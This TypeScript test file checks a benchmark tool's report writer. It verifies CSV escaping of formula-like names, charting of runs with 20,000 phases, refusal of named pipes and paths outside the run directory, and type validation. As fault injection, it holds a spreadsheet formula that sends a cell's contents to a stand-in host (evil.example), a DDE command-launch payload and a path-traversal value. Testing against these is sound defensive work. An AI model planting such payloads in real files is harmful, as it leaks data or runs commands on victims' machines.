/**
 * Fault injection on reports (issue 12, defect 8): names that spreadsheets would run as formulas are
 * escaped in every CSV; a run with 20,000 phases is still reported, its charts merging consecutive
 * phases into bands and bars, with a note (before, drawing failed: "canvas has no pixels").
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { cpSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { execFileSync } from 'node:child_process';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { PhaseRecord, RunJson } from '../../src/core/contract.js';
import { readRun, writeReports } from '../../src/report/index.js';
import { UserError } from '../../src/core/errors.js';
import { loadForCompare, writeCompare } from '../../src/report/compare/index.js';
import { csvSafeCell } from '../../src/report/csv.js';
import { MAX_BANDS, MAX_PHASE_BARS, limitBands, runForPhaseCharts } from '../../src/report/degrade.js';
import { handRun, writeRunDir } from '../fixtures/runs/hand-run.js';

const tmp = mkdtempSync(join(tmpdir(), 'kdbench-faults-report-'));
process.on('exit', () => rmSync(tmp, { recursive: true, force: true }));

const EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")';

/** Every cell of a CSV file (RFC 4180: quoted cells, doubled quotes, newlines inside quotes). */
function csvCells(file: string): string[] {
  const text = readFileSync(file, 'utf8');
  const cells: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (quoted && ch === '"' && text[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (quoted && ch === '"') quoted = false;
    else if (quoted) cell += ch;
    else if (ch === '"') quoted = true;
    else if (ch === ',' || ch === '\n') {
      cells.push(cell);
      cell = '';
    } else if (ch !== '\r') cell += ch;
  }
  return cells;
}

test('formula-like names are escaped in summary.csv, inference.csv, emissions.csv and compare.csv; numbers stay numbers', async () => {
  const run = handRun();
  run.phases[1].name = EVIL;
  run.models[1].name = '+cmd|" /C calc"!A0';
  run.inference[1].model = run.models[1].name;
  const dir = writeRunDir(join(tmp, 'evil'), run);
  await writeReports(dir);
  const cells = (file: string) => csvCells(join(dir, file));
  const all = ['summary.csv', 'inference.csv', 'emissions.csv'].flatMap(cells);
  for (const c of all) assert.doesNotMatch(c, /^[=+@]/, `a cell starts a formula: ${c}`);
  assert.ok(all.includes(`'${EVIL}`), 'the phase name is kept, as text');
  assert.ok(all.includes(`'+cmd|" /C calc"!A0`));
  const cmp = join(tmp, 'cmp');
  // A second run of the same suite (compare refuses the same run twice, so it starts a minute later).
  const second: RunJson = { ...run, startedAt: '2026-01-02T03:05:00.000Z' };
  const { runs, mode } = loadForCompare([dir, writeRunDir(join(tmp, 'evil2'), second)], undefined);
  mkdirSync(cmp);
  writeCompare(runs, mode, cmp);
  const compareCells = csvCells(join(cmp, 'compare.csv'));
  for (const c of compareCells) assert.doesNotMatch(c, /^[=+@-][^\d]/, `compare.csv: ${c}`);
  assert.equal(csvSafeCell(-1.5), -1.5);
  assert.equal(csvSafeCell('-1.5'), "'-1.5");
  assert.equal(csvSafeCell('teacher'), 'teacher');
});

function manyPhases(n: number): RunJson {
  const run = handRun();
  const t0 = Date.parse(run.startedAt) + 1000;
  const template = run.phases[0];
  run.phases = Array.from({ length: n }, (_, i): PhaseRecord => ({
    ...template,
    name: `step-${i}`,
    startedAt: new Date(t0 + i * 500).toISOString(),
    endedAt: new Date(t0 + (i + 1) * 500).toISOString(),
    durationS: 0.5,
  }));
  return run;
}

test('20,000 phases: the report is written; bands and bars merged past their limits, with a note', async () => {
  const dir = writeRunDir(join(tmp, 'many'), manyPhases(20_000));
  const files = await writeReports(dir);
  for (const f of ['report.html', 'report.md', 'charts/power.png', 'charts/energy-per-phase.png', 'charts/co2-per-phase.png'])
    assert.ok(files.includes(f) && existsSync(join(dir, f)), f);
  const md = readFileSync(join(dir, 'report.md'), 'utf8');
  assert.match(md, /20,000 phases: drawn as 200 bands of about 100 consecutive phases each/);
  assert.match(md, /20,000 phases: drawn as 60 bars of about 334 consecutive phases each/);
});

test('merging keeps the order, the span and the totals', () => {
  const run = manyPhases(1000);
  const merged = runForPhaseCharts(run);
  assert.ok(merged.phases.length <= MAX_PHASE_BARS);
  const sum = (r: RunJson) => r.phases.reduce((a, p) => a + p.energyJ, 0);
  assert.ok(Math.abs(sum(merged) - sum(run)) < 1e-6);
  assert.equal(merged.phases[0].startedAt, run.phases[0].startedAt);
  assert.equal(merged.phases.at(-1)!.endedAt, run.phases.at(-1)!.endedAt);
  assert.match(merged.phases[0].name, /^17 phases, 1 to 17 \(step-0 \.\.\. step-16\)$/);
  const bands = limitBands(
    run.phases.map((p, i) => ({ label: p.name, t0: i, t1: i + 1 })),
    MAX_BANDS,
  );
  assert.equal(bands.length, MAX_BANDS);
  assert.equal(bands[0].t0, 0);
  assert.equal(bands.at(-1)!.t1, 1000);
  assert.equal(runForPhaseCharts(handRun()).phases.length, handRun().phases.length, 'few phases: untouched');
});

test('what is not a file is never read: a named pipe as run.json or samples.csv, samplesFile pointing outside the run', async () => {
  const dir = writeRunDir(join(tmp, 'pipes'), handRun());
  const fifoRun = join(tmp, 'fifo-run');
  mkdirSync(fifoRun);
  execFileSync('mkfifo', [join(fifoRun, 'run.json')]);
  assert.throws(
    () => readRun(fifoRun),
    (e: unknown) => e instanceof UserError && /run\.json: is a named pipe, not a file/.test(e.message),
  );
  const fifoSamples = join(tmp, 'fifo-samples');
  cpSync(dir, fifoSamples, { recursive: true });
  rmSync(join(fifoSamples, 'samples.csv'));
  execFileSync('mkfifo', [join(fifoSamples, 'samples.csv')]);
  await assert.rejects(writeReports(fifoSamples), /samples\.csv: is a named pipe, not a file/);
  const outside = join(tmp, 'outside');
  const run = handRun();
  run.meter.samplesFile = '../../../../../dev/zero';
  writeRunDir(outside, run);
  writeFileSync(join(outside, 'samples.csv'), '');
  await writeReports(outside);
  assert.match(
    readFileSync(join(outside, 'report.md'), 'utf8'),
    /names samples file "\.\.\/\.\.\/\.\.\/\.\.\/\.\.\/dev\/zero", which is not a file name in the run directory/,
  );
});

test('a run.json whose phases, totals or models have fields of the wrong type is refused with their paths, not a TypeError', () => {
  const run = handRun() as unknown as Record<string, unknown> & { phases: Record<string, unknown>[]; models: Record<string, unknown>[] };
  run.phases[0] = { name: null, energyJ: 'lots' };
  run.phases[2].domains = 'x';
  run.totals = '?';
  run.models[1].accuracy = '90 %';
  const dir = writeRunDir(join(tmp, 'bad-fields'), run as unknown as RunJson);
  assert.throws(
    () => readRun(dir),
    (e: unknown) =>
      e instanceof UserError &&
      /cannot be reported, fields of the wrong type/.test(e.message) &&
      e.message.includes('phases[0].name: not of the expected type (got null)') &&
      e.message.includes('phases[0].energyJ: not of the expected type (got string "lots")') &&
      e.message.includes('phases[2].domains: expected a list') &&
      e.message.includes('totals: expected an object') &&
      e.message.includes('models[1].accuracy'),
  );
});
